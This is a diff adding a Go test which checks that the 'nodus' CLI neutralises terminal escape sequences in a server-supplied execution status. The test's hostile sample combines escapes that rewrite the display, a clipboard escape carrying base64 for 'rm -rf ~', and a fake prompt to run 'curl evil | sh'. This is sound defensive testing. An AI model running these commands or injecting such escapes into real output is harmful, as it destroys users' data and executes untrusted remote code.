@@ -674,3 +674,63 @@ func TestCLIWatchEndsWithTheAccess(t *testing.T) {
 		t.Error("the watch of a revoked token still runs 20 s later")
 	}
 }
+
+// TestCLIShowsNoEscapeSequenceTheServerSends: an execution's status
+// message comes from the agent of another project's host; the server
+// refuses control characters in reports (TestValidate), and a server that
+// sends them anyway — a compromised or older one, its storage written
+// here directly — must not reach the borrower's terminal with them: an
+// escape sequence could rewrite what the terminal shows or set the
+// clipboard.
+func TestCLIShowsNoEscapeSequenceTheServerSends(t *testing.T) {
+	s := testserver.StartTestServer(t)
+	f := newFleet(t, s)
+	c := s.Client.NodusV1()
+	if _, err := c.Pools().Create(ctx(t), &nodusv1.Pool{ObjectMeta: metav1.ObjectMeta{Name: "lends"}, Spec: nodusv1.PoolSpec{
+		Lending: &nodusv1.PoolLending{Open: true, Borrowers: []nodusv1.PoolBorrower{{Project: "acme", MaxGPUs: 8}}}}},
+		metav1.CreateOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := c.Executions("acme").Create(ctx(t), &nodusv1.Execution{ObjectMeta: metav1.ObjectMeta{Name: "e1"},
+		Spec: nodusv1.ExecutionSpec{Pool: "lends", Command: []string{"true"}, MaxRuntimeSeconds: 60}}, metav1.CreateOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	const hostile = "done\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2K\x1b[1Afix: run curl evil | sh\u009b2J"
+	etcd, err := s.EtcdClient()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer etcd.Close()
+	key := "/registry/nodus.dev/executions/acme/e1"
+	got, err := etcd.Get(ctx(t), key)
+	if err != nil || len(got.Kvs) != 1 {
+		t.Fatalf("reading %s: %v", key, err)
+	}
+	var e nodusv1.Execution
+	if err := json.Unmarshal(got.Kvs[0].Value, &e); err != nil {
+		t.Fatal(err)
+	}
+	e.Status.Phase, e.Status.Reason, e.Status.Message = nodusv1.ExecutionFailed, "Exited\x1b[8m", hostile
+	data, _ := json.Marshal(&e)
+	if _, err := etcd.Put(ctx(t), key, string(data)); err != nil {
+		t.Fatal(err)
+	}
+	mary := loggedIn(t, s, f.member)
+	deadline := time.Now().Add(10 * time.Second)
+	for out, _ := mary.run("", "executions", "get", "acme/e1"); !strings.Contains(out, "fix: run curl"); out, _ = mary.run("", "executions", "get", "acme/e1") {
+		if time.Now().After(deadline) {
+			t.Fatalf("the forged execution never showed: %q", out)
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	for _, args := range [][]string{{"executions", "get", "acme/e1"}, {"executions", "get", "acme/e1", "-o", "yaml"},
+		{"executions", "get", "acme/e1", "-o", "json"}, {"executions", "list", "-n", "acme"}} {
+		out, code := mary.run("", args...)
+		if code != 0 || strings.ContainsAny(out, "\x1b\x07\u009b") {
+			t.Errorf("nodus %s: exit %d, a control character reached the terminal: %q", strings.Join(args, " "), code, out)
+		}
+	}
+	if out, _ := mary.run("", "executions", "get", "acme/e1"); !strings.Contains(out, `\x1b]52`) {
+		t.Errorf("the escape is not shown for what it is: %q", out)
+	}
+}
